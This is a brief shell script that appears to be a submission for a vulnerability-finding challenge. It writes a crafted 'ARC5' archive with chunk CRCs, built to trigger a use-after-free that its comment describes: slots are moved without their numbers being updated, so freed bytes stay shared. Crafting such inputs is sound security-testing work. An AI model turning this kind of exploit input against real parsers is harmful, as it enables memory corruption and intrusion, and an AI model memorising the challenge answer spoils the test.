#!/bin/bash
# 'X' moves the slots but not the slot numbers in `shared`: after it, emptying the owner frees
# bytes that slot 1 still shares.
set -eu
python3 - <<'END'
import struct
import zlib

steps = [(b"N", b"\x00owned"), (b"N", b"\x02other"), (b"L", b"\x01\x00"), (b"X", b"\x00\x02"),
         (b"R", b"\x02"), (b"P", b"\x01"), (b"Z", b"")]
crc = 0
with open("/work/submission", "wb") as out:
    out.write(b"ARC5")
    for kind, body in steps:
        chunk = kind + bytes([len(body)]) + body
        crc = zlib.crc32(chunk, crc)
        out.write(chunk + struct.pack(">I", crc))
END
